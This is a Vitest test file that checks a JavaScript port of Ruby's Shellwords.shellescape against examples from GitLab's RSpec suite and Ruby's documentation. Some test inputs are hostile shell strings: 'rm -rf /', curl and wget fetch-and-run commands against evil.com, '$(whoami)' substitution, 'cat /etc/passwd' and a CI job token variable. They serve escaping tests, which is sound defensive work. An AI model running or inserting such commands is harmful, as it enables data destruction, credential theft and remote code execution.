/**
 * Ruby stdlib `Shellwords.shellescape` (the `posix_escape` interpolation function).
 *
 * Where an expected value comes from:
 * - "spec: <file>" is an example ported from gitlabhq/gitlabhq's RSpec files;
 * - "doc" is an example from Ruby's documentation or ruby/ruby's source comments or tests;
 * - "ruby" is the output of running the expression in Ruby (Ruby 3.1.2 with Oj 3.14.2, checked by
 *   hand; the methods involved did not change up to 3.3 unless noted);
 * - "src" is derived by reading the named C/Ruby source where running Ruby was not possible.
 */
import { describe, expect, it } from 'vitest';

import { shellescape } from '../../../scripts/gitlab/ruby/shellwords.js';

describe('shellescape (Shellwords.shellescape)', () => {
  // spec: spec/lib/gitlab/ci/config/interpolation/functions/posix_escape_spec.rb
  it.each([
    ['String with " and \' and  blanks', 'String\\ with\\ \\"\\ and\\ \\\'\\ and\\ \\ blanks'],
    ['Blank space', 'Blank\\ space'],
    ["Single-'-quote", "Single-\\'-quote"],
    ['Double-"-quote', 'Double-\\"-quote'],
    ['file.txt; rm -rf /', 'file.txt\\;\\ rm\\ -rf\\ /'],
    ['`curl evil.com/steal.sh | sh`', '\\`curl\\ evil.com/steal.sh\\ \\|\\ sh\\`'],
    ['file_$(whoami).txt', 'file_\\$\\(whoami\\).txt'],
    ['input.txt | cat /etc/passwd', 'input.txt\\ \\|\\ cat\\ /etc/passwd'],
    ['file.txt\nwget http://evil.com/malware.sh', "file.txt'\n'wget\\ http://evil.com/malware.sh"],
    ['$CI_JOB_TOKEN', '\\$CI_JOB_TOKEN'],
    ['*.rb', '\\*.rb'],
  ])('posix_escape_spec: %j', (input, expected) => {
    expect(shellescape(input)).toBe(expected);
  });

  it('follows the stdlib doc examples', () => {
    // doc: lib/shellwords.rb, Shellwords.escape("It's better to give than to receive")
    expect(shellescape("It's better to give than to receive")).toBe("It\\'s\\ better\\ to\\ give\\ than\\ to\\ receive");
    expect(shellescape("special's.txt")).toBe("special\\'s.txt");
  });

  it("returns '' for the empty string", () => {
    // doc: lib/shellwords.rb, "Returns an empty quoted String if +str+ has a length of zero."
    expect(shellescape('')).toBe("''");
  });

  it('keeps the safe set, including + (current shellwords regex)', () => {
    // src: lib/shellwords.rb `[^A-Za-z0-9_\-.,:+\/@\n]`
    expect(shellescape('Az09_-.,:+/@')).toBe('Az09_-.,:+/@');
  });

  it('escapes each multibyte character once, by code point', () => {
    // ruby: "é😀a b\n".shellescape => "\\é\\😀a\\ b'\n'"; "\u00a0" => "\\\u00a0"; "a\u0301" => "a\\\u0301"
    expect(shellescape('é😀a b\n')).toBe("\\é\\😀a\\ b'\n'");
    expect(shellescape('\u00a0')).toBe('\\\u00a0');
    expect(shellescape('a\u0301')).toBe('a\\\u0301');
  });

  it('escapes tabs, backslashes and quotes', () => {
    // ruby: "a\tb\\c'".shellescape
    expect(shellescape("a\tb\\c'")).toBe("a\\\tb\\\\c\\'");
  });
});
